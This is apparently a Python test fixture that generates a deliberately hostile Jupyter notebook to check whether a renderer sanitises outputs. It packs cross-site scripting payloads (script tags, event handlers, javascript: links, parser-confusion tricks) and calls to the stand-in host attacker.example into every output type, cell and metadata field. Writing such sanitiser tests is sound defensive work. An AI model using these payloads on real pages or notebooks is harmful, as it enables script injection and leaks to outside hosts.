"""A notebook that tries to run, load, send or link something, in every kind of output and cell."""

from __future__ import annotations

import base64
import json

HOST = "http://attacker.example"
HTML = (
    "</script></style></title></textarea><script>document.title='owned';alert(1)</script>"
    '<img src=x onerror="alert(2)"><svg onload=alert(3)><script>alert(4)</script></svg>'
    f'<a href="javascript:alert(5)">script link</a><a href="{HOST}/a" ping="{HOST}/p" target=_top>link</a>'
    f"<iframe src={HOST}/></iframe><iframe srcdoc='<script>alert(6)</script>'></iframe><object data={HOST}/o></object>"
    f"<embed src={HOST}/e><link rel=stylesheet href={HOST}/a.css><base href={HOST}/>"
    f'<meta http-equiv=refresh content="0;url={HOST}/m"><style>@import "{HOST}/i.css"; body{{display:none}}</style>'
    f'<p style="position:fixed;inset:0;background:url({HOST}/b.png)">over everything</p>'
    f"<form action={HOST}/f><input autofocus onfocus=alert(7) name=x><button formaction={HOST}/g>send</button></form>"
    f"<img src={HOST}/t.png srcset='{HOST}/s.png 2x'><video src={HOST}/v poster={HOST}/q autoplay></video>"
    f"<audio src={HOST}/u></audio><table background={HOST}/w><tr><td>cell</td></tr></table>"
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg=="><math><mtext><table><mglyph><style><!--'
    '</style><img title="--&gt;&lt;img src=1 onerror=alert(9)&gt;"></math><noscript><p title="</noscript>'
    '<img src=x onerror=alert(10)>"></noscript><details open ontoggle=alert(11)>x</details>'
    "<template><script>alert(12)</script></template></div></div></div></body></html><b>behind the end</b>"
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(20)"><script>alert(21)</script><image href="{HOST}/x.png"/>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{HOST}/y"/></foreignObject><rect width="9" '
    'height="9"/></svg>'
)
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
MARKDOWN = (
    f"# Title {HTML}\n\n[link](javascript:alert(30)) [data](data:text/html;base64,PHNjcmlwdD4=) <{HOST}/auto> "
    f'![picture]({HOST}/z.png) ![x](x"onerror="alert(31)) ![own](attachment:own.png) ![pasted](data:image/png;base64,'
    f"{PIXEL})\n\n[ref]: javascript:alert(32)\n[ref]\n\n$x^2 </script><script>alert(33)</script>$\n\n"
    "```html\n<script>alert(34)</script>\n```\n\n<div>\n\n**inside** <script>alert(35)</script>\n"
)


def output(kind: str, content: object) -> dict[str, object]:
    return {"output_type": "display_data", "data": {kind: content, "text/plain": "plain"}, "metadata": {}}


def cell(kind: str, source: str, **more: object) -> dict[str, object]:
    return {"cell_type": kind, "id": "a", "metadata": {}, "source": source, **more}


def hostile_notebook() -> bytes:
    widget = "application/vnd.jupyter.widget-view+json"
    outputs = [
        output("text/html", HTML),
        {**output("text/html", HTML), "metadata": {"text/html": {"isolated": True}}},
        output("image/svg+xml", SVG),
        output("application/javascript", "alert(40); fetch('" + HOST + "')"),
        output(widget, {"model_id": "</script><script>alert(41)</script>"}),
        output("text/markdown", MARKDOWN),
        output("text/latex", HTML),
        output("image/png", PIXEL),
        output("image/png", f'x" onerror="alert(42)" src="{HOST}/k.png'),
        output("image/gif", base64.b64encode(HTML.encode()).decode()),
        output("text/vnd.mermaid", HTML),
        {
            "output_type": "stream",
            "name": "stdout",
            "text": HTML + "\x1b]8;;javascript:alert(43)\x07x\x1b[31mred\x1b[0m",
        },
        {"output_type": "error", "ename": HTML, "evalue": HTML, "traceback": [HTML, "\x1b[31m" + HTML]},
        {"output_type": HTML, "text": HTML},
    ]
    cells = [
        cell("markdown", MARKDOWN, attachments={"own.png": {"image/png": PIXEL}, "b.png": {"text/html": HTML}}),
        cell("code", "%%html\n" + HTML, outputs=outputs, execution_count=HTML),
        cell("code", "%%javascript\nalert(50)", outputs=[], execution_count=None),
        cell("raw", HTML, metadata={"raw_mimetype": "text/html", "format": "text/html"}),
        cell("markdown", "the last cell"),
    ]
    metadata = {
        "title": HTML,
        "language_info": {"name": HTML, "pygments_lexer": HTML},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": "</script><script>alert(60)</script>"}},
    }
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}).encode()
